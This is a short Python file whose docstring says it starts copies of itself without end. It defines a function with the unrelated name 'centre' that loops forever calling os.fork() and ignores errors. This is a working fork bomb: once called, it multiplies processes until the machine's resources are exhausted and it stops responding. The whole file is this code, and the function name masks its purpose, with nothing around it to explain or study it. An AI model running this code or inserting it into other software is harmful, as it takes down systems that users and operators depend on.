"""Starts two copies of itself without end."""

import os


def centre(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
